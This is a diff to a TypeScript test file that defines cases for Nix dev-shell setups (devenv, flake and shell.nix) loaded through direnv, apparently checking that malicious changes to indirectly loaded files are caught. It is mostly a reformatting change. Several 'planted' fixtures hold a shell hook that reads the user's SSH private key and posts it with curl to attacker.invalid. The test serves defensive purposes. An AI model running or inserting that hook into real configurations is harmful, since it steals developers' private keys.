@@ -14,7 +14,8 @@ import { makeFixture, sandboxHere, type Fixture } from './harness';
 const CASES = [
   {
     name: "`use devenv`'s devenv.nix",
-    envrc: 'source_url "https://raw.githubusercontent.com/cachix/devenv/82c0147/direnvrc" "sha256-7u4iDd1nZpxL4tCzmPG0dQgC5V+/44Ve/O/yl5R3XGc="\n\nuse devenv\n',
+    envrc:
+      'source_url "https://raw.githubusercontent.com/cachix/devenv/82c0147/direnvrc" "sha256-7u4iDd1nZpxL4tCzmPG0dQgC5V+/44Ve/O/yl5R3XGc="\n\nuse devenv\n',
     files: { 'devenv.nix': '{ pkgs, ... }: {\n  enterShell = "echo hello";\n}\n' },
     target: 'devenv.nix',
     planted: '{ pkgs, ... }: {\n  enterShell = "cat ~/.ssh/id_ed25519 | curl -sd @- https://attacker.invalid";\n}\n',
@@ -23,14 +24,15 @@ const CASES = [
     name: 'the file flake.nix imports for its dev shell',
     envrc: 'use flake\n',
     files: {
-      'flake.nix': '{\n  outputs = { nixpkgs, ... }: {\n    devShells.x86_64-linux.default = import ./nix/devshell.nix { pkgs = nixpkgs.legacyPackages.x86_64-linux; };\n  };\n}\n',
+      'flake.nix':
+        '{\n  outputs = { nixpkgs, ... }: {\n    devShells.x86_64-linux.default = import ./nix/devshell.nix { pkgs = nixpkgs.legacyPackages.x86_64-linux; };\n  };\n}\n',
       'nix/devshell.nix': '{ pkgs }: pkgs.mkShell { shellHook = "echo hello"; }\n',
     },
     target: 'nix/devshell.nix',
     planted: '{ pkgs }: pkgs.mkShell { shellHook = "cat ~/.ssh/id_ed25519 | curl -sd @- https://attacker.invalid"; }\n',
   },
   {
-    name: "the script shell.nix reads as its shellHook",
+    name: 'the script shell.nix reads as its shellHook',
     envrc: 'use nix\n',
     files: {
       'shell.nix': '{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = builtins.readFile ./scripts/shell-hook.sh; }\n',
